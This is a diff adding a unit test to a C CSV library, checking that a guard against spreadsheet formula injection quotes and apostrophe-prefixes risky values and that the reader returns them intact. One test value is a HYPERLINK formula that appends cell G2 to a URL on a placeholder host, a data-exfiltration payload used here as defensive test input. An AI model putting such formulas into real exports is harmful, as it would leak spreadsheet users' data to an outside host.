@@ -93,6 +93,63 @@ static void test_csv_basic(void **state)
     got_release(&g);
 }
 
+/* The guard against formulas (OWASP CSV injection): what buf_add_csv_field writes, the reader
+   gives back exactly; the written form is spelled out here for a few values. */
+static void test_csv_formula_guard(void **state)
+{
+    static const char *const values[] = {
+        "=HYPERLINK(\"http://x.invalid/?\"&G2,\"Xem\")",
+        "+84 912",
+        "-x",
+        "@SUM(A1)",
+        "\tTab",
+        "\rcr",
+        "'=already guarded by a person",
+        "''+two",
+        "'plain apostrophe",
+        "-3",
+        "+1,5",
+        "-17,9%",
+        "Hà Nội, Việt Nam",
+        "",
+    };
+    enum { N = sizeof(values) / sizeof(values[0]) };
+    /* spelled out: a leading apostrophe inside quotes, none for numbers and plain text */
+    static const char *const written[][2] = {
+        {"=1+2", "\"'=1+2\""}, {"-x", "\"'-x\""},     {"-3", "-3"},         {"'=x", "\"''=x\""},
+        {"'plain", "'plain"},  {"@a;b", "\"'@a;b\""}, {"+1,5", "\"+1,5\""}, {"a\"b", "\"a\"\"b\""},
+    };
+    for (size_t i = 0; i < sizeof(written) / sizeof(written[0]); i++) {
+        struct buf b = BUF_INIT;
+        buf_add_csv_field(&b, written[i][0]);
+        assert_string_equal(b.ptr, written[i][1]);
+        buf_release(&b);
+    }
+    struct buf b = BUF_INIT;
+    buf_add_csv_field_sep(&b, "@a;b", ';');
+    assert_string_equal(b.ptr, "\"'@a;b\"");
+    buf_reset(&b);
+    buf_add_csv_field_sep(&b, "a;b", ';');
+    assert_string_equal(b.ptr, "\"a;b\"");
+    buf_reset(&b);
+    buf_adds(&b, "h,v\r\n");
+    for (size_t i = 0; i < N; i++) {
+        buf_addf(&b, "%zu,", i);
+        buf_add_csv_field(&b, values[i]);
+        buf_adds(&b, "\r\n");
+    }
+    struct got g;
+    struct tcxd_error e;
+    assert_int_equal(read_csv(b.ptr, &g, &e), TCXD_OK);
+    assert_int_equal(g.n, N + 1);
+    for (size_t i = 0; i < N; i++) {
+        assert_int_equal(g.rows[i + 1].n, 2);
+        assert_string_equal(g.rows[i + 1].cell[1], values[i]);
+    }
+    got_release(&g);
+    buf_release(&b);
+}
+
 static void test_csv_quoted_newlines(void **state)
 {
     struct got g;
@@ -488,6 +545,7 @@ int main(void)
         return 1;
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_csv_basic),
+        cmocka_unit_test(test_csv_formula_guard),
         cmocka_unit_test(test_csv_quoted_newlines),
         cmocka_unit_test(test_csv_blank_lines_and_endings),
         cmocka_unit_test(test_csv_delimiters),
